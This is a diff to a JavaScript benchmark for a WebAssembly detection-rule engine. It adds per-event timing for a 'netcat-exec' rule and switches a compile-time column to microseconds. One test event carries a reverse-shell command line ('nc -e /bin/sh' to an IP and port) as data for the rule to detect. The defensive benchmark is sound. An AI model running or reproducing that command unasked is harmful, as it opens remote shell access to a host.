@@ -157,6 +157,29 @@ for (const m of modules) {
 }
 printTable('instance replacement after a trap', replacement);
 
+// A user rule end to end: UserRule.match per event (host calls through the JSON accessor).
+const perEvent = [];
+if (existsSync(examples)) {
+  const { UserRule } = await import(join(DIST, 'shared/wasm/user-rule.js'));
+  const { JsonEventAccessor } = await import(join(DIST, 'shared/wasm/event-accessor.js'));
+  const accessor = new JsonEventAccessor();
+  const rule = UserRule.fromBytes(new Uint8Array(readFileSync(examples)), { ruleId: 'netcat-exec', accessor });
+  const events = [
+    { label: 'other process (1 get_str)', event: { process: { name: 'ls', args: ['ls', '-l', '/tmp'] } } },
+    { label: 'nc without -e (2 get_str, split)', event: { process: { name: 'nc', args: ['nc', '-l', '4444'] } } },
+    { label: 'nc -e (match + alert)', event: { process: { name: 'nc', args: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] } } },
+  ];
+  for (const { label, event } of events) {
+    accessor.set(event);
+    const N = 100_000;
+    const s = medianSeconds(() => {
+      for (let i = 0; i < N; i++) if (!rule.match(i).ok) throw new Error('fault');
+    });
+    perEvent.push({ event: label, 'ns/event': Math.round((s / N) * 1e9), 'fuel/event': rule.pool.call('match', 0).fuelUsed });
+  }
+  printTable('user rule (netcat-exec) per event, fuel + pool + breaker', perEvent);
+}
+
 // Instrumentation and compile time; compile pool cache.
 const compileRows = [];
 const inputs = [{ input: 'predicate (raw)', bytes: plainBytes }];
@@ -165,7 +188,7 @@ for (const x of inputs) {
   const instrument = medianSeconds(() => instrumentModule(x.bytes, { maxMemoryPages: 256 }), 20);
   const out = instrumentModule(x.bytes, { maxMemoryPages: 256 });
   const compile = medianSeconds(() => new WebAssembly.Module(out), 20);
-  compileRows.push({ input: x.input, 'bytes in': x.bytes.length, 'bytes out': out.length, 'instrument ms': Math.round(instrument * 1e5) / 100, 'WebAssembly.Module ms': Math.round(compile * 1e5) / 100 });
+  compileRows.push({ input: x.input, 'bytes in': x.bytes.length, 'bytes out': out.length, 'instrument ms': Math.round(instrument * 1e5) / 100, 'new WebAssembly.Module µs': Math.round(compile * 1e7) / 10 });
 }
 printTable('instrumentation and compile time', compileRows);
 
@@ -193,4 +216,4 @@ printTable('compile pool and cache', cacheRows);
 
 const rss = peakRssMiB();
 console.log(`\npeak RSS ${rss} MiB`);
-writeResults('wasm-fuel', { overhead, replacement, compile: compileRows, cache: cacheRows, peakRssMiB: rss });
+writeResults('wasm-fuel', { overhead, replacement, userRule: perEvent, compile: compileRows, cache: cacheRows, peakRssMiB: rss });
